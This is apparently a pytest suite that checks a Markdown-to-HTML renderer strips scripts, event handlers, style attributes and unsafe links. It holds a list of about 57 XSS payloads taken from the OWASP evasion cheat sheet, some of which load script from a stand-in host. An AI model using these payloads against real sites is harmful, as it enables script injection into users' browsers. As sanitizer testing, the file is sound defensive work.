"""Markdown is rendered to HTML that no body, whoever wrote it, can turn into a script."""

from html.parser import HTMLParser

import pytest

from education.rendering import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    json_for_html,
    plain_text,
    render_markdown,
)

# Known cross-site-scripting payloads (OWASP XSS filter evasion cheat sheet and friends),
# plus Markdown-specific ones.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<script/xss src=http://xss.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JAVASCRIPT:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1)  )",
    '[click](https://example.org "x" onmouseover="alert(1)")',
    "![img](javascript:alert(1))",
    "![x](https://example.org/x.png)",
    "<javascript:alert(1)>",
    '<svg onload="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<body onload="alert(1)">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<style>@import 'http://xss.example/x.css';</style>",
    '<link rel="stylesheet" href="http://xss.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<input onfocus="alert(1)" autofocus>',
    '<details open ontoggle="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror="alert(1)">',
    '<marquee onstart="alert(1)">x</marquee>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td background="javascript:alert(1)">',
    "<!--<script>alert(1)</script>-->",
    '"><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="#" onclick="alert(1)">x</a>',
    "<a href='https://example.org' onmouseover=alert(1)>x</a>",
    "<b onmouseover=alert(1)>bold</b>",
    "<template><script>alert(1)</script></template>",
    '<x-custom onclick="alert(1)">x</x-custom>',
    "*emphasis* <scr<script>ipt>alert(1)</script>",
    '<abbr title="x" onclick="alert(1)">TMS</abbr>',
]


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def elements(html):
    collector = _Collector()
    collector.feed(html)
    return collector.tags


def test_there_are_at_least_thirty_payloads():
    assert len(XSS_PAYLOADS) >= 30


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_script_style_event_or_javascript_link_survives(payload):
    html = render_markdown(f"Some text.\n\n{payload}\n\nMore text.")
    lowered = html.lower()
    assert "<script" not in lowered
    assert "<style" not in lowered
    for tag, attributes in elements(html):
        assert tag in ALLOWED_TAGS, f"{tag} survived"
        for name, value in attributes.items():
            assert not name.startswith("on"), f"{name} survived"
            assert name != "style"
            assert "script:" not in value.lower().replace(" ", ""), value
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, f"{tag}[{name}] survived"
            if name == "href":
                assert value.split(":")[0].lower() in {"http", "https", "mailto", "tel"} or (
                    value.startswith("#")
                ), value
    assert "Some text." in html
    assert "More text." in html


def test_html_that_is_cleaned_out_shows_as_harmless_text_at_most():
    html = render_markdown("<IMG SRC=javascript:alert('XSS')>")
    assert elements(html) == [("p", {})]


def test_ordinary_markdown_is_kept():
    html = render_markdown(
        "Plain **bold** and *emphasis*.\n\n- one\n- two\n\n[NIMH](https://www.nimh.nih.gov/)"
    )
    assert "<strong>bold</strong>" in html
    assert "<em>emphasis</em>" in html
    assert "<li>one</li>" in html
    assert 'href="https://www.nimh.nih.gov/"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_body_headings_sit_below_the_page_heading():
    assert "<h2>Heading</h2>" in render_markdown("# Heading", 1)
    assert "<h3>Heading</h3>" in render_markdown("# Heading", 2)
    assert "<h4>Sub</h4>" in render_markdown("## Sub", 2)
    assert "<h1" not in render_markdown("# A\n\n###### B", 1)


def test_plain_text_drops_markup_and_scripts():
    assert plain_text("**Bold** <script>alert(1)</script> & text") == "Bold & text"


def test_json_for_html_cannot_close_its_element():
    out = json_for_html({"text": "</script><script>alert(1)</script> & <!--"})
    assert "<" not in out
    assert ">" not in out
    assert "&" not in out
    assert "\\u003C/script\\u003E" in out
